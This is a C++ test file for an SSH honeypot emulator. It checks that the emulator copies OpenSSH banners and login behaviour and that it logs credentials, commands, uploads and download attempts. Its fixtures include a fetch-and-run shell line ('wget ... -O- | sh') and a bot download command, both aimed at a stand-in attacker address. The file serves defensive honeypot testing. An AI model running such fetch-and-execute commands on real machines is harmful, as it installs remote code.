// The ssh emulator in a real decoy process (sandbox on) against the OpenSSH client.
#include <gtest/gtest.h>
#include <libssh/libssh.h>
#include <sys/stat.h>

#include <cstdio>
#include <fstream>
#include <regex>

#include "tests/decoy/decoy_harness.h"

namespace decnet::decoy::testing {
namespace {

constexpr const char* kVersion = "OpenSSH_8.4p1 Debian-5+deb11u1";

class SshServiceTest : public DecoyServiceTest {
 protected:
  void SetUp() override {
    port_ = freePort();
    api::Json spec = {
        {"hostname", "SRV-ALPHA-42"},
        {"services",
         {{{"name", "ssh"},
           {"ports", {port_}},
           {"persona", {{"version", kVersion}, {"users", "root:toor,admin:s3cret!"}}}}}}};
    startDecoy("ssh", spec);
  }

  // Runs the OpenSSH client without a terminal, the password coming from an askpass script.
  decnet::testing::CommandResult ssh(const std::string& password, const std::string& rest,
                                     const std::string& options = {}) {
    const std::string askpass = decoy_->dir() + "/askpass";
    {
      std::ofstream out(askpass, std::ios::trunc);
      out << "#!/bin/sh\nprintf '%s\\n' '" << password << "'\n";
    }
    ::chmod(askpass.c_str(), 0700);
    return run("SSH_ASKPASS=" + askpass +
               " SSH_ASKPASS_REQUIRE=force DISPLAY=x timeout 60 setsid -w ssh -F /dev/null -p " +
               std::to_string(port_) + " " + options +  // the first -o of a kind wins
               " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
               "-o PreferredAuthentications=password,keyboard-interactive "
               "-o NumberOfPasswordPrompts=1 -o ConnectTimeout=10 " +
               rest + " </dev/null");
  }
};

TEST_F(SshServiceTest, BannerIsTheExactPersonaVersion) {
  RawClient client(port_);
  ASSERT_TRUE(client.connected());
  const std::string banner = client.receive(3s, "\n");
  EXPECT_EQ(banner, std::string("SSH-2.0-") + kVersion + "\r\n");
}

TEST_F(SshServiceTest, WrongPasswordIsRefusedAndRecorded) {
  const auto result = ssh("hunter2", "admin@127.0.0.1 true");
  EXPECT_NE(result.exitCode, 0) << result.output;
  // The method list of a stock Debian/Ubuntu sshd.
  EXPECT_NE(result.output.find("Permission denied (publickey,password)."), std::string::npos)
      << result.output;
  ASSERT_TRUE(decoy_->waitFor(
      {" ssh - auth_attempt ", "principal=\"admin\"", "secret=\"hunter2\"", "outcome=\"failed\""}))
      << decoy_->events();
  const auto lines = decoy_->lines({" ssh - auth_attempt "});
  EXPECT_EQ(lines.size(), 1u) << decoy_->events();
  const std::string& line = lines.front();
  EXPECT_NE(line.find("method=\"password\""), std::string::npos) << line;
  EXPECT_NE(line.find("secret_b64=\"aHVudGVyMg==\""), std::string::npos) << line;
  EXPECT_NE(line.find("client_version=\"SSH-2.0-OpenSSH_"), std::string::npos) << line;
  EXPECT_TRUE(std::regex_search(line, std::regex("hassh=\"[0-9a-f]{32}\""))) << line;
  ASSERT_TRUE(decoy_->waitFor({" ssh - disconnect ", "hassh=", "bytes_in="}));
}

// OpenSSH only tries what the server lists; bots (and libssh clients) try keyboard-interactive
// regardless, and the answers must be captured too.
TEST_F(SshServiceTest, KeyboardInteractiveAnswersAreRecorded) {
  ssh_session session = ssh_new();
  ASSERT_NE(session, nullptr);
  const int port = port_;
  const bool noConfig = false;
  ssh_options_set(session, SSH_OPTIONS_HOST, "127.0.0.1");
  ssh_options_set(session, SSH_OPTIONS_PORT, &port);
  ssh_options_set(session, SSH_OPTIONS_USER, "admin");
  ssh_options_set(session, SSH_OPTIONS_PROCESS_CONFIG, &noConfig);
  ASSERT_EQ(ssh_connect(session), SSH_OK) << ssh_get_error(session);
  int rc = ssh_userauth_kbdint(session, nullptr, nullptr);
  ASSERT_EQ(rc, SSH_AUTH_INFO) << ssh_get_error(session);
  ASSERT_EQ(ssh_userauth_kbdint_getnprompts(session), 1);
  char echo = 1;
  EXPECT_STREQ(ssh_userauth_kbdint_getprompt(session, 0, &echo), "Password: ");
  EXPECT_EQ(echo, 0);
  ssh_userauth_kbdint_setanswer(session, 0, "kbd-guess");
  rc = ssh_userauth_kbdint(session, nullptr, nullptr);
  EXPECT_EQ(rc, SSH_AUTH_DENIED);
  ssh_disconnect(session);
  ssh_free(session);
  EXPECT_TRUE(decoy_->waitFor({" ssh - auth_attempt ", "method=\"keyboard-interactive\"",
                               "principal=\"admin\"", "secret=\"kbd-guess\"",
                               "client_version=\"SSH-2.0-libssh_"}))
      << decoy_->events();
}

TEST_F(SshServiceTest, RightPasswordGetsAFakeShell) {
  const auto result = ssh("s3cret!", "admin@127.0.0.1 whoami");
  EXPECT_EQ(result.exitCode, 0) << result.output;
  EXPECT_NE(result.output.find("admin\n"), std::string::npos) << result.output;
  EXPECT_TRUE(
      decoy_->waitFor({" ssh - auth_attempt ", "principal=\"admin\"", "outcome=\"success\""}));
  EXPECT_TRUE(decoy_->waitFor({" ssh - command ", "cmd=\"whoami\"", "cwd=\"/home/admin\""}))
      << decoy_->events();

  const auto missing = ssh("s3cret!", "admin@127.0.0.1 nosuchtool --x");
  EXPECT_EQ(missing.exitCode, 127) << missing.output;
  EXPECT_NE(missing.output.find("nosuchtool: command not found"), std::string::npos);
}

TEST_F(SshServiceTest, InteractiveShellWithTerminal) {
  const std::string askpass = decoy_->dir() + "/askpass";
  {
    std::ofstream out(askpass, std::ios::trunc);
    out << "#!/bin/sh\necho 'toor'\n";
  }
  ::chmod(askpass.c_str(), 0700);
  const auto result =
      run("(sleep 1; printf 'uname -a\\r'; sleep 0.5; printf 'cat /etc/hostname\\r'; sleep 0.5; "
          "printf 'exit\\r'; sleep 1) | SSH_ASKPASS=" +
          askpass +
          " SSH_ASKPASS_REQUIRE=force DISPLAY=x timeout 60 setsid -w ssh -tt -F /dev/null -p " +
          std::to_string(port_) +
          " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
          "-o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 root@127.0.0.1");
  EXPECT_NE(result.output.find("root@SRV-ALPHA-42:~# "), std::string::npos) << result.output;
  EXPECT_NE(result.output.find("Linux SRV-ALPHA-42 6.1.0-28-amd64"), std::string::npos)
      << result.output;
  EXPECT_TRUE(decoy_->waitFor({" ssh - command ", "cmd=\"cat /etc/hostname\"", "cwd=\"/root\""}))
      << decoy_->events();
  EXPECT_TRUE(decoy_->waitFor({" ssh - session ", "kind=\"shell\"", "term=\"xterm"}))
      << decoy_->events();
}

TEST_F(SshServiceTest, ScpUploadIsHashed) {
  const std::string file = decoy_->dir() + "/payload.sh";
  {
    std::ofstream out(file, std::ios::trunc);
    out << "#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n";
  }
  const std::string sha = run("sha256sum " + file + " | cut -d' ' -f1").output.substr(0, 64);
  const std::string askpass = decoy_->dir() + "/askpass";
  {
    std::ofstream out(askpass, std::ios::trunc);
    out << "#!/bin/sh\necho 's3cret!'\n";
  }
  ::chmod(askpass.c_str(), 0700);
  const auto result = run("SSH_ASKPASS=" + askpass +
                          " SSH_ASKPASS_REQUIRE=force DISPLAY=x timeout 60 setsid -w scp -O -F "
                          "/dev/null -P " +
                          std::to_string(port_) +
                          " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                          "-o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 " +
                          file + " admin@127.0.0.1:/tmp/ </dev/null");
  EXPECT_EQ(result.exitCode, 0) << result.output;
  EXPECT_TRUE(decoy_->waitFor({" ssh - file_upload ", "name=\"payload.sh\"",
                               "path=\"/tmp/payload.sh\"", "sha256=\"" + sha + "\""}))
      << decoy_->events();
}

TEST_F(SshServiceTest, DownloadsAreRecordedNeverRun) {
  const auto result = ssh("s3cret!", "admin@127.0.0.1 'wget http://203.0.113.9/bot.sh; ps aux'");
  EXPECT_NE(result.output.find("USER         PID %CPU %MEM"), std::string::npos) << result.output;
  EXPECT_TRUE(decoy_->waitFor({" ssh - download_attempt ", "url=\"http://203.0.113.9/bot.sh\"",
                               "tool=\"wget\"", "principal=\"admin\""}))
      << decoy_->events();
}

TEST_F(SshServiceTest, SixFailuresDisconnectLikeOpenSsh) {
  const auto result = ssh("nope", "admin@127.0.0.1 true",
                          "-o NumberOfPasswordPrompts=10 -o PreferredAuthentications=password");
  EXPECT_NE(result.output.find("Too many authentication failures"), std::string::npos)
      << result.output;
  EXPECT_EQ(decoy_->lines({" ssh - auth_attempt "}).size(), 6u) << decoy_->events();
}

TEST_F(SshServiceTest, IdleMemoryIsSmall) {
  {
    // One finished session first: threads must be gone again afterwards.
    RawClient client(port_);
    client.receive(2s, "\n");
  }
  ASSERT_TRUE(decoy_->waitFor({" ssh - disconnect "}));
  // The RSA host key is made by a thread of its own on a first start; wait for it to end.
  for (int i = 0; i < 100 && decoy_->status("Threads") != 1; ++i)
    std::this_thread::sleep_for(100ms);
  std::this_thread::sleep_for(300ms);
  const long rss = decoy_->status("VmRSS");
  const long anon = decoy_->status("RssAnon");
  const long threads = decoy_->status("Threads");
  std::printf("[ decoy ] idle ssh decoy: VmRSS %ld kB, RssAnon %ld kB, threads %ld\n", rss, anon,
              threads);
  EXPECT_EQ(threads, 1);
  EXPECT_LT(anon, 4096);
  EXPECT_EQ(decoy_->status("NoNewPrivs"), 1);
  EXPECT_EQ(decoy_->status("Seccomp"), 2);  // filter mode
}

}  // namespace
}  // namespace decnet::decoy::testing
